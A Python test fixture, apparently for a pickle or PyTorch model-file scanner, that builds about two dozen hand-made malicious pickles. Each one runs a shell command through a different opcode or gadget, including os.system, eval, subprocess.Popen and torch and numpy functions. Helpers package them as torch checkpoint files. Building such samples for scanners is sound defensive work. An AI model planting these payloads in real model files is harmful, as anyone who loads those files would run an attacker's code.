"""Hostile pickles, made by hand: each would run something if it were unpickled the usual way."""

from __future__ import annotations

import struct
import zipfile
from pathlib import Path


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def attacks(command: str) -> dict[str, bytes]:
    """Name of the opcode in question -> a pickle that would execute the shell ``command``."""
    arg = text(command)
    stack_global = short("os") + short("system") + b"\x93"
    return {
        "protocol 0": b"cos\nsystem\n(S'" + command.encode() + b"'\ntR.",
        "REDUCE": b"\x80\x02cos\nsystem\n" + arg + b"\x85R.",
        "STACK_GLOBAL": b"\x80\x04" + stack_global + arg + b"\x85R.",
        "STACK_GLOBAL dotted": b"\x80\x04" + short("torch") + short("os.system") + b"\x93" + arg + b"\x85R.",
        "STACK_GLOBAL dotted class": b"\x80\x04" + short("torch.os") + short("system") + b"\x93" + arg + b"\x85R.",
        "posix": b"\x80\x02cposix\nsystem\n" + arg + b"\x85R.",
        "nt": b"\x80\x02cnt\nsystem\n" + arg + b"\x85R.",
        "eval": b"\x80\x02cbuiltins\neval\n" + text(f"__import__('os').system('{command}')") + b"\x85R.",
        "exec of Python 2": b"\x80\x02c__builtin__\nexec\n" + text(f"import os; os.system('{command}')") + b"\x85R.",
        "getattr": b"\x80\x02cbuiltins\ngetattr\ncos\nname\n" + text("system") + b"\x86R.",
        "import": b"\x80\x02cbuiltins\n__import__\n" + text("antigravity") + b"\x85R.",
        "Popen": b"\x80\x02csubprocess\nPopen\n]" + text("/bin/sh") + b"a\x85R.",
        "runpy": b"\x80\x02crunpy\nrun_path\n" + arg + b"\x85R.",
        "INST": b"(S'" + command.encode() + b"'\nios\nsystem\n.",
        "OBJ": b"\x80\x02(cos\nsystem\n" + arg + b"o.",
        "NEWOBJ": b"\x80\x02cos\nsystem\n" + arg + b"\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04" + stack_global + arg + b"\x85}\x92.",
        "only named": b"\x80\x02}" + text("x") + b"cos\nsystem\ns.",
        "call of a stand-in": b"\x80\x02cmy.pack\nThing\n)R)R.",
        "call of a result": b"\x80\x02ccollections\nOrderedDict\n)R)R.",
        "torch.load": b"\x80\x02ctorch.serialization\nload\n" + arg + b"\x85R.",
        "numpy": b"\x80\x02cnumpy.testing._private.utils\nrunstring\n" + arg + b"}\x86R.",
        "rebuild calls": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\n}" + arg + b"\x85}tR.",
        "map": b"\x80\x02cbuiltins\nmap\ncos\nsystem\n]" + arg + b"a\x86R.",
        "dictionary factory": b"\x80\x02ccollections\ndefaultdict\ncos\nsystem\n\x85R.",
        "extension registry": b"\x80\x02\x82\x01" + arg + b"\x85R.",
        "state of a function": b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n}" + text("__code__") + b"cos\nsystem\nsb.",
    }


def as_torch_zip(pickle: bytes, path: Path) -> None:
    """The pickle where torch keeps its own: ``<name>/data.pkl`` in an uncompressed zip."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pickle)
        archive.writestr("archive/version", "3\n")


def as_old_torch(pickle: bytes, path: Path) -> None:
    """The pickle as the fourth part of a file that torch before 1.6 would have written."""
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
    path.write_bytes(magic + b"\x80\x02M\xe9\x03." + b"\x80\x02}." + pickle + b"\x80\x02].")
